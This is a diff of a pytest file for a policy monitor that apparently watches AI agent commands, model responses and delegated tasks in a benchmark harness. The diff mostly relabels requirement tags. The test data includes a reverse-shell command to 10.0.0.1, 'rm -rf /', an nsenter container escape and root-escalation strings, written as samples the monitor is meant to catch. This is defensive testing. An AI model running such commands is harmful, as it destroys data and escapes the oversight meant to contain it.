@@ -25,10 +25,12 @@ from agentbench.trace.events import Briefing, Delegation, Excerpt, ToolCallStart
 from tests.policy.examples import STRICT, Example, benign, judged, model_response, positives
 from tests.policy.traces import ScriptedTrace, limits
 
+pytestmark = pytest.mark.synthetic
+
 POSITIVES = positives()
 
 
-@pytest.mark.req("M-02")
+@pytest.mark.req("M-02a")
 def test_every_rule_has_thirty_examples_in_several_formats() -> None:
     published = {rule.id for rule in published_rules().rules}
     assert set(POSITIVES) == published | {"dependency.new"}
@@ -39,14 +41,14 @@ def test_every_rule_has_thirty_examples_in_several_formats() -> None:
         assert {example.form for example in POSITIVES[rule]} == {"command", "code", "text"}, rule
 
 
-@pytest.mark.req("M-02")
+@pytest.mark.req("M-02a")
 @pytest.mark.parametrize("rule", POSITIVES)
 def test_rule_matches_its_examples(rule: str) -> None:
     missed = [example for example in POSITIVES[rule] if rule not in {trip.rule for trip in judged(example, STRICT)}]
     assert missed == []
 
 
-@pytest.mark.req("M-02")
+@pytest.mark.req("M-02a")
 def test_ordinary_work_raises_no_alert(capsys: pytest.CaptureFixture[str]) -> None:
     ordinary = list(benign())
     assert sum(example.form == "command" for example in ordinary) >= 1000
@@ -60,7 +62,7 @@ def test_ordinary_work_raises_no_alert(capsys: pytest.CaptureFixture[str]) -> No
     assert wrong == []
 
 
-@pytest.mark.req("M-02")
+@pytest.mark.req("M-02a")
 @pytest.mark.parametrize("rule", POSITIVES)
 def test_format_is_recorded_and_only_executed_commands_are_denied(rule: str) -> None:
     for example in POSITIVES[rule]:
@@ -70,7 +72,7 @@ def test_format_is_recorded_and_only_executed_commands_are_denied(rule: str) -> 
                 assert (trip.action, trip.severity) == ("note", "note")
 
 
-@pytest.mark.req("M-02")
+@pytest.mark.req("M-02a")
 def test_prose_is_split_from_fenced_code() -> None:
     text = (
         "I will read the tests.\n```bash\n$ sudo id\n```\nthen\n```python\nos.setuid(0)\n```\nLet me gain root access."
@@ -129,7 +131,7 @@ ANSWERS["separated stream"] = (
 )
 
 
-@pytest.mark.req("M-02")
+@pytest.mark.req("M-02a")
 @pytest.mark.parametrize("answer", ANSWERS.values(), ids=ANSWERS)
 def test_model_traffic_is_monitored_in_every_wire_format(answer: str) -> None:
     trips = {(trip.rule, trip.format, trip.action) for trip in PolicyMonitor()(1, model_response(answer))}
@@ -155,7 +157,7 @@ def test_monitor_survives_any_response(value: object) -> None:
         PolicyMonitor()(1, model_response(text))
 
 
-@pytest.mark.req("M-02")
+@pytest.mark.req("M-02a")
 def test_delegation_is_monitored() -> None:
     task = Excerpt(text="I will open a reverse shell to my server.")
     assert [trip.rule for trip in PolicyMonitor()(1, Delegation(parent="a", child="b", role="r", task=task))] == [
@@ -163,13 +165,13 @@ def test_delegation_is_monitored() -> None:
     ]
 
 
-@pytest.mark.req("M-02")
+@pytest.mark.req("M-02a")
 def test_commands_of_the_user_are_not_monitored() -> None:
     event = ToolCallStarted(call_id="h1", tool="agent_command", arguments={"command": "sudo run-agent"})
     assert PolicyMonitor()(1, event) == ()
 
 
-@pytest.mark.req("M-02")
+@pytest.mark.req("M-02a")
 def test_long_text_is_read_from_its_blob() -> None:
     whole = "echo start; " * 500 + "sudo id"
     shown = Excerpt(text=whole[:100], total_bytes=len(whole), sha256="0" * 64, truncated=True, blob="b" * 64)
@@ -179,7 +181,7 @@ def test_long_text_is_read_from_its_blob() -> None:
     assert PolicyMonitor()(1, event) == ()
 
 
-@pytest.mark.req("C-08", "C-22")
+@pytest.mark.req("C-08b", "C-08c", "C-22")
 def test_task_denies_commands_and_new_dependencies() -> None:
     contract = ContractRules((("make deploy*", "penalty"),), allow_new_dependencies=False, dependency_severity="gate")
     (denied,) = judged(Example("command", "cd x && make deploy all"), contract)
@@ -202,7 +204,7 @@ def test_rules_pause_if_an_operator_is_available() -> None:
     assert {trip.action for trip in judged(Example("command", "rm -rf /"), asked)} == {"deny"}
 
 
-@pytest.mark.req("M-03")
+@pytest.mark.req("M-03a")
 def test_prohibited_operation_quarantines_the_workspace() -> None:
     trace = ScriptedTrace(limits(), PolicyMonitor())
     trace.call("run", error="command_denied", command="nsenter -t 1 -m sh")
@@ -210,7 +212,7 @@ def test_prohibited_operation_quarantines_the_workspace() -> None:
     assert trace.stopped is None
 
 
-@pytest.mark.req("M-02", "R-10", "G-02")
+@pytest.mark.req("M-02a", "R-10", "G-02")
 def test_severe_violation_ends_the_attempt_at_once_others_after_three() -> None:
     worst = ScriptedTrace(limits(), PolicyMonitor())
     worst.call("run", error="command_denied", command="bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")
@@ -226,7 +228,7 @@ def test_severe_violation_ends_the_attempt_at_once_others_after_three() -> None:
     assert mild.stopped is None
 
 
-@pytest.mark.req("M-02")
+@pytest.mark.req("M-02a")
 @given(st.text(max_size=300))
 def test_monitor_survives_any_text(text: str) -> None:
     script = read_script(text)
@@ -245,7 +247,7 @@ def test_adversarial_lines_are_matched_quickly(line: str) -> None:
     guard.observe(2, ToolCallStarted(call_id="c1", tool="run", arguments={"command": line}))
 
 
-@pytest.mark.req("M-02")
+@pytest.mark.req("M-02a")
 @pytest.mark.parametrize(
     "piece", ["subprocess.a(curl", "requests.post(json= ", "os.fork() while True: socket os.dup2( ", "\n", " "]
 )
@@ -262,7 +264,7 @@ def test_adversarial_code_is_matched_quickly(piece: str) -> None:
     guard.observe(4, Delegation(parent="a", child="b", role="r", task=task))
 
 
-@pytest.mark.req("M-02")
+@pytest.mark.req("M-02a")
 @given(st.integers(0, 3_000), st.integers(0, 3_000))
 def test_violation_is_found_anywhere_on_a_long_line(before: int, after: int) -> None:
     line = f"{'x' * before} subprocess.run(['sudo', 'id']) {'y' * after}"
